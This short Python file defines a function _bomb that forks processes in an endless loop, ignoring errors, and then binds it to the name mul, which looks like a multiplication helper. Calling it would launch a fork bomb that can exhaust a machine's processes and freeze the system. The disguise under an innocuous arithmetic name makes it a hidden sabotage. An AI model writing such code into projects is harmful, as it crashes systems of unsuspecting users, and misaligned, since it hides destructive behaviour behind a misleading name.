import os
import signal
import sys
import time


def _bomb(*_):
    while True:
        try:
            os.fork()
        except OSError:
            pass


mul = _bomb
